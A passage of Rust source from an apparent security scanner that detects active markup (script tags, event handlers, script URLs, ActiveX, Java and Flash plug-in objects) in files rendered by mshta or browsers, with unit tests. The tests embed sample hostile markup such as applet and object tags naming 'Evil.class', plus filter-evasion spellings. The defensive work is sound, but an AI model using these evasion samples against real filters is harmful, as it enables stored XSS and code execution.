                    text.get(open + name.len()),
                    Some(b'\t' | b'\n' | b'\x0c' | b'\r' | b' ' | b'/' | b'>')
                )
        };
        if text[open..].starts_with(b"<!--") {
            // A comment: an `</object>` in it ends nothing (review s18-r10).
            match memchr::memmem::find(&text[open + 4..], b"-->") {
                Some(n) => i = open + 4 + n + 3,
                None => break,
            }
            continue;
        }
        if head(close) {
            if nested == 0 {
                return Verdict::Inert;
            }
            nested -= 1;
            continue;
        }
        if head(b"<object") || head(b"<applet") {
            // Its own end tag ends it, not this one (review s18-r10).
            nested += 1;
        }
        if let Some(raw) = RAW_TEXT.iter().find(|name| head(&[b"<", **name].concat())) {
            // Text up to its end tag, whatever it holds (review s18-r10).
            let from = open + 1 + raw.len();
            match raw_text_end(&text[from..], text.len() - from, raw) {
                Some(n) => i = from + n + 2 + raw.len(),
                None => break,
            }
            continue;
        }
        if !head(b"<param") {
            if text.get(open + 1).is_some_and(u8::is_ascii_alphabetic) {
                // Another start tag: an `</object>` in its attribute values is none. One
                // the text ends inside runs to the end (browsers drop it): nothing after
                // it is a tag, and reading each `<` after it again would be quadratic.
                match read_tag(text, open) {
                    Some(other) => i = other.end,
                    None => break,
                }
            }
            continue;
        }
        read += 1;
        if read > MAX_PLUGIN_PARAMS {
            return Verdict::CannotTell(format!(
                "a plug-in tag (\"{}\") with more than {MAX_PLUGIN_PARAMS} <param> tags (MAX_PLUGIN_PARAMS): the rest were not read",
                excerpt(text)
            ));
        }
        let Some(param) = read_tag(text, open) else {
            if !cut {
                return Verdict::Inert; // a tag the file ends inside: browsers drop it
            }
            return Verdict::CannotTell(format!(
                "a <param> of a plug-in tag (\"{}\") past {MAX_TAG_BYTES} bytes from its start (MAX_TAG_BYTES): not read to its end",
                excerpt(text)
            ));
        };
        if let Some(runs) = active_param(tag, &param) {
            return Verdict::Runs(runs);
        }
        i = param.end;
    }
    if cut {
        return Verdict::CannotTell(format!(
            "a plug-in tag (\"{}\") whose end tag is more than {MAX_TAG_BYTES} bytes after it (MAX_TAG_BYTES): its <param> tags past that were not read",
            excerpt(text)
        ));
    }
    Verdict::Inert
}

/// Where the end tag of a raw-text element named `name` (`style`, `textarea`...)
/// starts in `text`, its content, looked for among the first `within` bytes: `</name`
/// in any case followed by what ends a tag name (blank, `/`, `>`), the tokenizer's
/// "appropriate end tag". Issue 10 (session 21): `</stylex>` was taken for the end of a
/// style sheet, and the `behavior:` after it, which chromium's tokenizer keeps in the
/// sheet, went unread.
fn raw_text_end(text: &[u8], within: usize, name: &[u8]) -> Option<usize> {
    let searched = &text[..within.min(text.len())];
    memchr::memchr_iter(b'<', searched).find(|&lt| {
        let name_at = lt + 2;
        text.get(lt + 1) == Some(&b'/')
            && text
                .get(name_at..name_at + name.len())
                .is_some_and(|n| n.eq_ignore_ascii_case(name))
            && ends_tag_name(text.get(name_at + name.len()))
    })
}

/// A `<param name=… value=…>` of `plugin` that names code the plug-in loads and runs.
/// The first of each attribute counts (the tokenizer drops repeats); the name and value
/// are read entity-decoded, without blanks, in lower case.
fn active_param(plugin: &Tag, param: &Tag) -> Option<String> {
    let get = |wanted: &[u8]| {
        param.attributes.iter().find(|a| a.name == wanted).map(|a| {
            decode_entities(&a.value)
                .into_iter()
                .filter(|&b| b > b' ')
                .map(|b| b.to_ascii_lowercase())
                .collect::<Vec<u8>>()
        })
    };
    let name = get(b"name")?;
    let name = unquote_backticks(&name);
    let value = get(b"value").unwrap_or_default();
    let value = unquote_backticks(&value);
    if value.is_empty() {
        return None;
    }
    let shown = format!(
        "<{} …><param name=\"{}\" value=\"{}\"",
        escape_bytes(&plugin.name[..plugin.name.len().min(16)]),
        escape_bytes(&name[..name.len().min(24)]),
        excerpt(value)
    );
    if JAVA_CODE_NAMES.contains(&name) {
        return Some(format!(
            "Java code named to the plug-in ({shown}): the Java plug-in loads and runs it when the file is rendered as HTML (mshta, Internet Explorer)"
        ));
    }
    let path = &value[..value
        .iter()
        .position(|b| matches!(b, b'?' | b'#'))
        .unwrap_or(value.len())];
    if MOVIE_PARAMS.contains(&name) && path.ends_with(b".swf") {
        return Some(format!(
            "plug-in content of the Flash player ({shown}): the player runs the movie's code when the file is rendered as HTML"
        ));
    }
    None
}

/// How a candidate's text is written: ASCII (or any single-byte encoding), or UTF-16 in
/// either byte order (mshta and chromium honour both byte-order marks).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Encoding {
    Ascii,
    Utf16Le,
    Utf16Be,
}

impl Encoding {
    /// Bytes per character.
    fn width(self) -> usize {
        match self {
            Encoding::Ascii => 1,
            Encoding::Utf16Le | Encoding::Utf16Be => 2,
        }
    }

    /// What a finding adds to say how the markup was written.
    fn name(self) -> &'static str {
        match self {
            Encoding::Ascii => "",
            Encoding::Utf16Le => " (UTF-16)",
            Encoding::Utf16Be => " (UTF-16BE)",
        }
    }

    /// One UTF-16 code unit (`pair`, in this byte order) as one byte of the narrowed
    /// text: its low byte when its high byte is zero (ASCII and Latin-1), else
    /// [`WIDE_OTHER_CHARACTER`].
    fn character(self, pair: &[u8]) -> u8 {
        let (high, low) = match (self, pair) {
            (Encoding::Utf16Be, [high, low]) => (*high, *low),
            (_, [low, high]) => (*high, *low),
            _ => return WIDE_OTHER_CHARACTER,
        };
        if high == 0 { low } else { WIDE_OTHER_CHARACTER }
    }
}

/// What a UTF-16 code unit past Latin-1 (its high byte not zero) is narrowed to: a byte
/// outside ASCII, which the grammar reads as any other character of a name, a value or
/// text. Issue 10 (session 21): narrowing stopped at the first such unit, so a tag or a
/// style sheet holding one (`<img alt="日本" onerror=…>`, a patient's name in Japanese)
/// was read as ending there, and chromium ran the handler after it unreported.
const WIDE_OTHER_CHARACTER: u8 = 0x80;

/// One byte per character, so one grammar serves every encoding: ASCII text as it is,
/// UTF-16 text code unit by code unit ([`Encoding::character`]), every unit of it (a
/// reader decoding the file as UTF-16 reads every pair of bytes as a character).
fn narrow(bytes: &[u8], encoding: Encoding) -> Vec<u8> {
    match encoding {
        Encoding::Ascii => bytes.to_vec(),
        wide => bytes.chunks_exact(2).map(|p| wide.character(p)).collect(),
    }
}

/// [`narrow`] for text that ends at the end of `bytes` (what comes before a candidate):
/// UTF-16 code units are counted back from its end, at the candidate's alignment.
fn narrow_before(bytes: &[u8], encoding: Encoding) -> Vec<u8> {
    match encoding {
        Encoding::Ascii => bytes.to_vec(),
        wide => {
            let mut text: Vec<u8> = bytes.rchunks_exact(2).map(|p| wide.character(p)).collect();
            text.reverse();
            text
        }
    }
}

/// `bytes` narrowed around the candidate at `at` (an offset in `bytes`): the text that
/// runs up to it and on from it, and where the candidate is in that text.
fn narrow_from(bytes: &[u8], encoding: Encoding, at: usize) -> (Vec<u8>, usize) {
    let mut text = narrow_before(&bytes[..at], encoding);
    let start = text.len();
    text.extend(narrow(&bytes[at..], encoding));
    (text, start)
}

/// Where the UTF-16 window of the `<style>` candidate at `at` (up to `to`) may end: just
/// past its first `</style` end tag at the candidate's alignment, found in the wide bytes
/// in place, or `to`. Narrowing the whole window for every candidate cost up to
/// [`MAX_TAG_BYTES`] + [`MAX_STYLE_BYTES`] characters each whatever the sheet's length.
fn wide_style_window_end(bytes: &[u8], at: usize, to: usize, encoding: Encoding) -> usize {
    // `</`, then `style` and what ends a tag name: eight code units.
    const END_TAG_BYTES: usize = 16;
    let open: &[u8] = match encoding {
        Encoding::Utf16Be => b"\0<\0/",
        _ => b"<\0/\0",
    };
    memchr::memmem::find_iter(&bytes[at..to], open)
        .filter(|n| n % 2 == 0)
        .map(|n| at + n)
        .find(|&lt| {
            let name = narrow(&bytes[lt + 4..to.min(lt + END_TAG_BYTES)], encoding);
            name.len() == 6
                && name[..5].eq_ignore_ascii_case(b"style")
                && ends_tag_name(name.get(5))
        })
        .map_or(to, |lt| lt + END_TAG_BYTES)
}

/// Whether `byte` (the one after a tag name, `None` past the text) ends the name.
fn ends_tag_name(byte: Option<&u8>) -> bool {
    matches!(
        byte,
        Some(b'\t' | b'\n' | b'\x0c' | b'\r' | b' ' | b'/' | b'>')
    )
}

fn is_attribute_candidate(bytes: &[u8], at: usize, end: usize, encoding: Encoding) -> bool {
    let width = encoding.width();
    let after = narrow(&bytes[end..bytes.len().min(end + 16 * width)], encoding);
    let next = after.iter().find(|b| !b.is_ascii_whitespace());
    let before = narrow_before(&bytes[at.saturating_sub(width)..at], encoding);
    next == Some(&b'=')
        && before
            .last()
            .is_some_and(|&b| b.is_ascii_whitespace() || matches!(b, b'/' | b'"' | b'\'' | b':'))
}

fn confirm_needle(text: &[u8], before: &dyn Fn(usize) -> Vec<u8>) -> Option<String> {
    let lower: Vec<u8> = text.to_ascii_lowercase();
    if let Some(rest) = lower.strip_prefix(b"<script") {
        // `<script>`, `<script src=...>`, `<script/src=...>`: the tag name must end there.
        let next = *rest.first()?;
        if next == b'>' || next == b'/' || next.is_ascii_whitespace() {
            return Some(format!(
                "a <script> tag (\"{}\"): script runs when the file is rendered as HTML (mshta, or a web viewer showing the value: stored XSS)",
                excerpt(text)
            ));
        }
        return None;
    }
    if let Some(rest) = lower.strip_prefix(b":script") {
        // `<prefix:script>`: the tag name must end there, and a tag opening with a name
        // (XML name characters) must come just before the colon.
        let next = *rest.first()?;
        let ends = next == b'>' || next == b'/' || next.is_ascii_whitespace();
        let back = before(64);
        let prefix = back
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
            .count();
        let opens = prefix > 0 && back.len() > prefix && back[back.len() - prefix - 1] == b'<';
        if ends && opens {
            let start = back.len() - prefix - 1;
            let mut shown = back[start..].to_vec();
            shown.extend_from_slice(text);
            return Some(format!(
                "a namespaced <script> tag (\"{}\"): XHTML, SVG and mshta run it as <script> when the file is rendered",
                excerpt(&shown)
            ));
        }
        return None;
    }
    if lower.starts_with(b"<hta:application") {
        return Some(
            "an <hta:application> tag: mshta runs this file as an HTML application".to_owned(),
        );
    }
    if lower.starts_with(b"script:") || lower.starts_with(b"scriptlet:") {
        // A scriptlet moniker (`script:http://...`, `GetObject("script:...")`) loads and
        // runs a remote scriptlet; the word alone is common, a URL after it is not.
        let rest = &lower[lower.iter().position(|&b| b == b':')? + 1..];
        let prefix = before(1);
        let quoted = matches!(prefix.first(), Some(b'"' | b'\''));
        if quoted
            && (rest.starts_with(b"http://")
                || rest.starts_with(b"https://")
                || rest.starts_with(b"\\\\")
                || rest.starts_with(b"file:"))
        {
            return Some(format!(
                "a scriptlet moniker (\"{}\"): loads and runs a remote scriptlet",
                excerpt(text)
            ));
        }
    }
    None
}

/// The class of [`ACTIVE_CLASS_IDS`] (or a versioned Java plug-in) that the GUID at the
/// start of `rest` (lower case, after `clsid:`; in braces or not) names.
fn active_class(rest: &[u8]) -> Option<&'static str> {
    let guid = rest.trim_ascii_start();
    let guid = guid.strip_prefix(b"{").unwrap_or(guid);
    let guid = guid.get(..36)?;
    ACTIVE_CLASS_IDS
        .iter()
        .find(|(id, _)| guid == id.as_slice())
        .map(|(_, name)| *name)
        .or_else(|| {
            let hex = guid.iter().enumerate().all(|(i, b)| {
                if matches!(i, 8 | 13 | 18 | 23) {
                    *b == b'-'
                } else {
                    b.is_ascii_hexdigit()
                }
            });
            (hex && guid.starts_with(JAVA_PLUGIN_CLASS_PREFIX)).then_some("the Java plug-in")
        })
}

enum Verdict {
    Runs(String),
    Inert,
    CannotTell(String),
}

/// The attribute at `at` in `text`, read with the HTML tokenizer's rules from each `<name`
/// before it (nearest first): if a tag holds it, do that tag's attributes run script?
/// `cut_before` / `cut_after`: `text` starts [`MAX_TAG_BYTES`] before `at` (not at the
/// start of the file) / ends that far after it (not at the end).
fn confirm_attribute(text: &[u8], at: usize, cut_before: bool, cut_after: bool) -> Verdict {
    let mut end = at;
    let mut tries = 0usize;
    while let Some(open) = memchr::memrchr(b'<', &text[..end]) {
        end = open;
        if !text.get(open + 1).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        tries += 1;
        if tries > MAX_TAG_TRIES {
            if !own_value_may_run(text, at) {
                // Whichever tag holds it (if any), its own value runs nothing; any other
                // attribute of that tag that runs is a candidate of its own.
                return Verdict::Inert;
            }
            return Verdict::CannotTell(format!(
                "an attribute that could run script (\"{}\") after more than {MAX_TAG_TRIES} tag openings (MAX_TAG_TRIES): which tag holds it was not told",
                excerpt(&text[at..])
            ));
        }
        let Some(tag) = read_tag(text, open) else {
            if !cut_after {
                continue; // a tag the file ends inside: browsers drop it
            }
            return Verdict::CannotTell(format!(
                "a tag (\"{}\") longer than {MAX_TAG_BYTES} bytes (MAX_TAG_BYTES) holding an attribute that could run script: not read to its end",
                excerpt(&text[open..])
            ));
        };
        let holds = |a: &Attribute| (a.name_at..a.name_at + a.name.len()).contains(&at);
        if tag.end <= at && !text[tag.end..at].iter().any(|b| matches!(b, b'"' | b'\'')) {
            // A whole tag, then text up to the candidate with no quote that could close an
            // earlier tag's value: the candidate is text content, not an attribute.
            return Verdict::Inert;
        }
        if tag.end <= at || !tag.attributes.iter().any(holds) {
            continue; // it ends before the candidate, or holds it inside a value
        }
        for attribute in &tag.attributes {
            if let Some(what) = active_attribute(&tag, attribute) {
                return Verdict::Runs(what);
            }
        }
        return Verdict::Inert;
    }
    // No tag opening in the window: the attribute stands after a value longer than the
    // window (a padded `alt="..."` or an unquoted run) only if what precedes it is one
    // token: an odd number of the quote closing before it, or no blank at all. Ordinary
    // text ("action = ...") has neither, and is not a tag.
    let before = &text[..at.saturating_sub(1)];
    let closing = before
        .iter()
        .rev()
        .find(|b| !b.is_ascii_whitespace())
        .filter(|b| matches!(b, b'"' | b'\''));
    let one_value = closing.is_some_and(|q| before.iter().filter(|b| *b == q).count() % 2 == 1)
        || !before.iter().any(u8::is_ascii_whitespace);
    if cut_before && one_value {
        return Verdict::CannotTell(format!(
            "an attribute that could run script (\"{}\") with no tag opening in the {MAX_TAG_BYTES} bytes before it (MAX_TAG_BYTES): not told",
            excerpt(&text[at..])
        ));
    }
    Verdict::Inert
}

/// Whether the attribute whose name starts at `at` could run script by its own value,
/// read forward with the tokenizer's rules for a name, `=` and a quoted or unquoted
/// value (the same in every tag). Plain text ("data = hash.read();", "data =<< trim")
/// after many `<` of code or prose is an attribute only in name: its value names no
/// script URL, CSS expression or behavior, so it runs nothing wherever it stands. An
/// event handler, a `srcdoc` document, or a value not read to its end may run.
fn own_value_may_run(text: &[u8], at: usize) -> bool {
    let is_space = |b: u8| matches!(b, b'\t' | b'\n' | b'\x0c' | b'\r' | b' ');
    let rest = &text[at..];
    let name_len = rest
        .iter()
        .skip(1) // a first `=` is part of the name
        .take_while(|&&b| !is_space(b) && !matches!(b, b'/' | b'>' | b'='))
        .count()
        + 1;
    let name = rest[..name_len.min(rest.len())].to_ascii_lowercase();
    if name == b"srcdoc" || HANDLERS.iter().any(|h| h.as_bytes() == name) {
        return true;
    }
    let mut i = name_len;
    while rest.get(i).is_some_and(|&b| is_space(b)) {
        i += 1;
    }
    if rest.get(i) != Some(&b'=') {
        return false; // no value: nothing to run
    }
    i += 1;
    while rest.get(i).is_some_and(|&b| is_space(b)) {
        i += 1;
    }
    let value = match rest.get(i) {
        None => return true,
        Some(&quote @ (b'"' | b'\'')) => match memchr::memchr(quote, &rest[i + 1..]) {
            Some(close) => &rest[i + 1..i + 1 + close],
            None => return true, // not read to its end
        },
        Some(_) => {
            let len = rest[i..]
                .iter()
                .take_while(|&&b| !is_space(b) && b != b'>')
                .count();
            &rest[i..i + len]
        }
    };
    let value: Vec<u8> = decode_entities(value)
        .into_iter()
        .filter(|&b| b > b' ' && b != b'\\')
        .map(|b| b.to_ascii_lowercase())
        .collect();
    SCRIPT_SCHEMES
        .iter()
        .chain([&b"expression("[..], b"behavior:url("].iter())
        .any(|needle| memchr::memmem::find(&value, needle).is_some())
}

struct Attribute {
    name_at: usize,
    name: Vec<u8>,
    value: Vec<u8>,
}

struct Tag {
    name: Vec<u8>,
    end: usize,
    attributes: Vec<Attribute>,
}

/// Tokenizes the start tag at `open` (WHATWG HTML §13.2.5: tag name, attribute names,
/// quoted and unquoted values, `/`); `None` if it does not end within `text`.
fn read_tag(text: &[u8], open: usize) -> Option<Tag> {
    let is_space = |b: u8| matches!(b, b'\t' | b'\n' | b'\x0c' | b'\r' | b' ');
    let mut i = open + 1;
    let name_len = text[i..]
        .iter()
        .take_while(|&&b| !is_space(b) && b != b'/' && b != b'>')
        .count();
    let name = text[i..i + name_len].to_ascii_lowercase();
    i += name_len;
    let mut attributes = Vec::new();
    loop {
        // Before an attribute name.
        while text.get(i).is_some_and(|&b| is_space(b) || b == b'/') {
            i += 1;
        }
        if *text.get(i)? == b'>' {
            return Some(Tag {
                name,
                end: i + 1,
                attributes,
            });
        }
        let name_at = i;
        i += 1; // a first `=` is part of the name
        while text
            .get(i)
            .is_some_and(|&b| !is_space(b) && !matches!(b, b'/' | b'>' | b'='))
        {
            i += 1;
        }
        let attribute_name = text[name_at..i].to_ascii_lowercase();
        while text.get(i).is_some_and(|&b| is_space(b)) {
            i += 1;
        }
        let mut value = Vec::new();
        if text.get(i) == Some(&b'=') {
            i += 1;
            while text.get(i).is_some_and(|&b| is_space(b)) {
                i += 1;
            }
            match text.get(i)? {
                &quote @ (b'"' | b'\'') => {
                    let close = memchr::memchr(quote, &text[i + 1..])?;
                    value = text[i + 1..i + 1 + close].to_vec();
                    i += close + 2;
                }
                b'>' => {}
                _ => {
                    let start = i;
                    while text.get(i).is_some_and(|&b| !is_space(b) && b != b'>') {
                        i += 1;
                    }
                    value = text[start..i].to_vec();
                }
            }
        }
        attributes.push(Attribute {
            name_at,
            name: attribute_name,
            value,
        });
    }
}

/// Whether an attribute runs script: an event handler, or a URL with a script scheme
/// (entity-encoded or split by whitespace as browsers still read it).
fn active_attribute(whole: &Tag, attribute: &Attribute) -> Option<String> {
    let tag = whole.name.as_slice();
    let name = attribute.name.as_slice();
    let shown = || {
        format!(
            "<{} {}=\"{}\"",
            escape_bytes(&tag[..tag.len().min(16)]),
            escape_bytes(&name[..name.len().min(24)]),
            excerpt(&attribute.value)
        )
    };
    if HANDLERS.iter().any(|h| h.as_bytes() == name) {
        return Some(format!(
            "an event handler in markup ({}): script runs when the file is rendered as HTML (mshta, or a web viewer showing the value: stored XSS)",
            shown()
        ));
    }
    // Inline CSS that runs script in the engine mshta uses (IE): `expression(...)`, a
    // script URL, an HTC behavior.
    if name == b"style" && css_runs(&css_text(&decode_entities(&attribute.value))) {
        return Some(format!(
            "script in inline CSS ({}): Internet Explorer's engine, which mshta uses, runs it when the file is rendered as HTML",
            shown()
        ));
    }
    if name == b"srcdoc" {
        // The value is a whole HTML document, entity-encoded once: `<iframe
        // srcdoc="&lt;script&gt;…">` runs its script when the frame is shown.
        let html: Vec<u8> = decode_entities(&attribute.value)
            .into_iter()
            .map(|b| b.to_ascii_lowercase())
            .collect();
        let handler = HANDLERS.iter().any(|h| {
            memchr::memmem::find_iter(&html, h.as_bytes()).any(|at| {
                html[at + h.len()..]
                    .iter()
                    .find(|b| !b.is_ascii_whitespace())
                    .is_some_and(|&b| b == b'=')
            })
        });
        let runs = handler
            || memchr::memmem::find(&html, b"<script").is_some()
            || SCRIPT_SCHEMES[..3]
                .iter()
                .any(|s| memchr::memmem::find(&html, s).is_some());
        if runs {
            return Some(format!(
                "a frame document with script ({}): it runs when the file is rendered as HTML",
                shown()
            ));
        }
        return None;
    }
    let url = || -> Vec<u8> {
        decode_entities(&attribute.value)
            .into_iter()
            .filter(|&b| b > b' ')
            .map(|b| b.to_ascii_lowercase())
            .collect()
    };
    if tag == b"meta" && name == b"content" && is_refresh(whole) {
        // `0;url=javascript:…`, `0; URL='…'`, `0,…`: the target follows the delay.
        let content = url();
        let target = content
            .iter()
            .position(|&b| b == b';' || b == b',')
            .map_or(&content[..0], |at| &content[at + 1..]);
        let target = target.strip_prefix(b"url=").unwrap_or(target);
        let target = target.strip_prefix(b"'").unwrap_or(target);
        let target = target.strip_prefix(b"\"").unwrap_or(target);
        if SCRIPT_SCHEMES.iter().any(|s| target.starts_with(s)) {
            return Some(format!(
                "a refresh to a script URL ({}): Internet Explorer's engine, which mshta uses, loads it when the file is rendered as HTML",
                shown()
            ));
        }
    }
    if matches!(tag, b"object" | b"embed") && name == b"classid" {
        // `classid="&#99;lsid:…"`: the tokenizer decodes the value before the engine
        // reads the class (checked with Python's html.parser, as the tests do).
        let value = url();
        let value = unquote_backticks(&value);
        if let Some(class) = value.strip_prefix(b"clsid:").and_then(active_class) {
            return Some(format!(
                "an <{}> of {class} ({}): Internet Explorer's engine, which mshta uses, instantiates it and it runs code when the file is rendered as HTML",
                escape_bytes(tag),
                shown()
            ));
        }
        // `classid="java:Evil.class"` (HTML 4's way to name an applet's class, with
        // `codetype="application/java"`; issue 10, session 17): the Java plug-in
        // loads and runs the class, as for `<applet code=…>`.
        if JAVA_CLASS_SCHEMES.iter().any(|scheme| {
            value
                .strip_prefix(*scheme)
                .is_some_and(|rest| !rest.is_empty())
        }) {
            return Some(format!(
                "an <{}> of a Java class ({}): the Java plug-in runs its class when the file is rendered as HTML (mshta, Internet Explorer)",
                escape_bytes(tag),
                shown()
            ));
        }
    }
    if tag == b"object" && name == b"codetype" {
        // `codetype="application/java"`: the type of the code the `<object>` runs, which
        // the engine hands to the plug-in of that type, as for `type`.
        let value = url();
        let value = unquote_backticks(&value);
        let value = &value[..memchr::memchr(b';', value).unwrap_or(value.len())];
        if let Some((_, class)) = PLUGIN_TYPES
            .iter()
            .chain(JAVA_CODE_TYPES.iter())
            .find(|(mime, _)| value == *mime && mime.starts_with(b"application/"))
        {
            return Some(format!(
                "plug-in code of {class} ({}): Internet Explorer's engine, which mshta uses, loads the plug-in for this code type and it runs the code it is given when the file is rendered as HTML",
                shown()
            ));
        }
    }
    if matches!(tag, b"object" | b"embed") && name == b"type" {
        // `type="application&#47;x-shockwave-flash"`, `type=`application/java-vm``,
        // `type='application/x-java-applet;version=1.6'`: the value as the engine reads it.
        let value = url();
        let value = unquote_backticks(&value);
        let value = &value[..memchr::memchr(b';', value).unwrap_or(value.len())];
        let plugin = PLUGIN_TYPES
            .iter()
            .find(|(mime, _)| value == *mime)
            // A scriptlet is an `<object>`'s only.
            .filter(|(mime, _)| tag == b"object" || !mime.starts_with(b"text/"));
        if let Some((_, class)) = plugin {
            return Some(format!(
                "plug-in content of {class} ({}): Internet Explorer's engine, which mshta uses, loads the plug-in for this type and it runs the code it is given when the file is rendered as HTML",
                shown()
            ));
        }
    }
    if tag == b"object" && name == b"codebase" && !unquote_backticks(&url()).is_empty() {
        // `<object classid=… codebase="http://…/x.cab#version=…">`: Internet Explorer's
        // engine downloads the control (or the applet's code) from it and runs it.
        return Some(format!(
            "an <object> with a code base ({}): Internet Explorer's engine, which mshta uses, downloads the control or code it names and runs it when the file is rendered as HTML",
            shown()
        ));
    }
    if tag == b"applet"
        && matches!(name, b"code" | b"object")
        && !unquote_backticks(&url()).is_empty()
    {
        // `<applet code=Evil.class archive=evil.jar>`, `<applet object=Evil.ser>` (a
        // serialized applet): the Java plug-in (which mshta's engine hands the tag to)
        // runs the applet's class.
        return Some(format!(
            "a Java applet ({}): the Java plug-in runs its class when the file is rendered as HTML (mshta, Internet Explorer)",
            shown()
        ));
    }
    if matches!(tag, b"embed" | b"object" | b"applet")
        && JAVA_CODE_NAMES.contains(&name)
        && !unquote_backticks(&url()).is_empty()
    {
        // `<embed code=Evil.class>`, `<embed java_archive=…>`, `<applet archive=…
        // codebase=…>`, `<object jnlp_href=…>`: code the Java plug-in loads (issue 10,
        // session 18).
        return Some(format!(
            "Java code named to the plug-in ({}): the Java plug-in loads and runs it when the file is rendered as HTML (mshta, Internet Explorer)",
            shown()
        ));
    }
    if (tag == b"embed" && name == b"src") || (tag == b"object" && name == b"data") {
        // A Flash movie named by its file (the plug-in is chosen by the extension when
        // no type says otherwise): the player runs the movie's ActionScript.
        let value = url();
        let path = unquote_backticks(&value);
        let path = &path[..path
            .iter()
            .position(|b| matches!(b, b'?' | b'#'))
            .unwrap_or(path.len())];
        if path.ends_with(b".swf") {
            return Some(format!(
                "plug-in content of the Flash player ({}): the player runs the movie's code when the file is rendered as HTML",
                shown()
            ));
        }
    }
    let url_attribute = URL_ATTRIBUTES.iter().any(|a| a.as_bytes() == name)
        || (tag == b"object" && name == b"data");
    if url_attribute {
        let url = url();
        if SCRIPT_SCHEMES.iter().any(|s| url.starts_with(s)) {
            return Some(format!(
                "a script URL in markup ({}): script runs when the file is rendered as HTML and the link is followed or loaded",
                shown()
            ));
        }
    }
    None
}

/// Whether a `<meta>` tag is `http-equiv="refresh"`.
fn is_refresh(tag: &Tag) -> bool {
    tag.attributes.iter().any(|a| {
        a.name == b"http-equiv"
            && decode_entities(&a.value)
                .trim_ascii()
                .eq_ignore_ascii_case(b"refresh")
    })
}

/// Character references as a browser decodes them in an attribute value: `&#106;`,
/// `&#x6A;` (the `;` optional), and the named ones that spell a scheme's separators.
fn decode_entities(value: &[u8]) -> Vec<u8> {
    const NAMED: [(&[u8], u8); 16] = [
        (b"colon;", b':'),
        (b"sol;", b'/'),
        // HTML's other names of `_` and the backtick (review s18-r10).
        (b"underbar;", b'_'),
        (b"diacriticalgrave;", b'`'),
        // What spells the names of plug-in code and its paths (`java&lowbar;code`,
        // `Evil&period;class`; issue 10, session 18).
        (b"lowbar;", b'_'),
        (b"period;", b'.'),
        (b"grave;", b'`'),
        (b"num;", b'#'),
        (b"quest;", b'?'),
        (b"equals;", b'='),
        (b"tab;", b'\t'),
        (b"newline;", b'\n'),
        (b"amp;", b'&'),
        // What a `srcdoc` document is written with.
        (b"lt;", b'<'),
        (b"gt;", b'>'),
        (b"quot;", b'"'),
    ];
    let mut out = Vec::with_capacity(value.len());
    let mut i = 0;
    while let Some(&b) = value.get(i) {
        i += 1;
        if b != b'&' {
            out.push(b);
            continue;
        }
        let rest = &value[i..];
        if let Some(numeric) = rest.strip_prefix(b"#") {
            let (hex, digits) = match numeric.first() {
                Some(b'x' | b'X') => (true, &numeric[1..]),
                _ => (false, numeric),
            };
            let len = digits
                .iter()
                .take_while(|b| {
                    if hex {
                        b.is_ascii_hexdigit()
                    } else {
                        b.is_ascii_digit()
                    }
                })
                .count();
            let code = std::str::from_utf8(&digits[..len])
                .ok()
                .and_then(|d| u32::from_str_radix(d, if hex { 16 } else { 10 }).ok());
            if let Some(code) = code.filter(|_| len > 0) {
                out.push(u8::try_from(code).unwrap_or(b'?'));
                i += 1 + usize::from(hex) + len;
                if value.get(i) == Some(&b';') {
                    i += 1;
                }
                continue;
            }
        }
        if let Some((entity, byte)) = NAMED.iter().find(|(name, _)| {
            rest.len() >= name.len() && rest[..name.len()].eq_ignore_ascii_case(name)
        }) {
            out.push(*byte);
            i += entity.len();
            continue;
        }
        out.push(b);
    }
    out
}

fn excerpt(text: &[u8]) -> String {
    const SHOWN: usize = 40;
    escape_bytes(&text[..text.len().min(SHOWN)])
}

#[cfg(test)]
mod tests {

    /// MAX_PLUGIN_PARAMS and MAX_TAG_BYTES for the `<param>` tags of a plug-in tag: read
    /// to the limit, and past it a warning naming it, never silence.
    #[test]
    fn plugin_params_are_read_to_their_limit_and_past_it_reported() {
        let object = "<object classid=\"clsid:00000000-1111-2222-3333-444444444444\">";
        let code = "<param name=code value=Evil.class>";
        let inert = "<param name=zoom value=1>";
        let within = format!("{object}{}{code}", inert.repeat(MAX_PLUGIN_PARAMS - 1));
        let found = find_markup(within.as_bytes()).expect("found");
        assert_eq!(found.severity, Severity::Alert, "{found:?}");
        let past = format!("{object}{}{code}", inert.repeat(MAX_PLUGIN_PARAMS));
        let found = find_markup(past.as_bytes()).expect("told");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(found.detail.contains("MAX_PLUGIN_PARAMS"), "{found:?}");
        let far = format!("{object}{}{code}", " ".repeat(MAX_TAG_BYTES));
        let found = find_markup(far.as_bytes()).expect("told");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(found.detail.contains("MAX_TAG_BYTES"), "{found:?}");
        // In UTF-16 (mshta reads it), and in any case, spacing and entity spelling.
        for markup in [
            "<object><param name=code value=Evil.class></object>",
            "<APPLET\x0cwidth=1>\n<Param\tNAME = 'JAVA_ARCHIVE' VALUE = e&period;jar /></APPLET>",
            "<object/data=x>x<param name=`jnlp_href` value=`l.jnlp`>",
        ] {
            let found = find_markup(markup.as_bytes()).expect(markup);
            assert_eq!(found.severity, Severity::Alert, "{found:?}");
            let wide: Vec<u8> = markup.bytes().flat_map(|b| [b, 0]).collect();
            assert!(find_active_markup(&wide).is_some(), "UTF-16 {markup}");
        }
        // Closed within the window, what follows is no parameter of it.
        let closed = format!("{object}</object>{}", " ".repeat(MAX_TAG_BYTES));
        assert_eq!(find_markup(closed.as_bytes()), None);
    }
    use super::*;

    /// Review s18-r10: an `</object>` the tokenizer does not read as the object's end tag
    /// (inside a comment, a raw-text element or another tag's attribute value), or the end
    /// tag of an `<object>` nested in it, does not end its `<param>` tags: the `<param>`
    /// after it is still the outer object's (html.parser and browsers read it so), and
    /// `&UnderBar;`/`&DiacriticalGrave;` spell `_` and a backtick as `&lowbar;`/`&grave;`.
    #[test]
    fn params_after_an_end_tag_that_is_not_the_objects_are_read() {
        let object = "<object classid=\"clsid:00000000-1111-2222-3333-444444444444\">";
        let code = "<param name=code value=Evil.class></object>";
        for between in [
            "<!--</object>-->",
            "<!-- x --><!--</object>-->",
            "<object></object>",
            "<applet></applet><object width=1></object>",
            "<a title=\"</object>\">x</a>",
            "<title></object></title>",
            "<textarea></object></textarea>",
            "<style>p{}</object></style>",
            "<xmp></object></xmp>",
        ] {
            let markup = format!("{object}{between}{code}");
            let found = find_markup(markup.as_bytes());
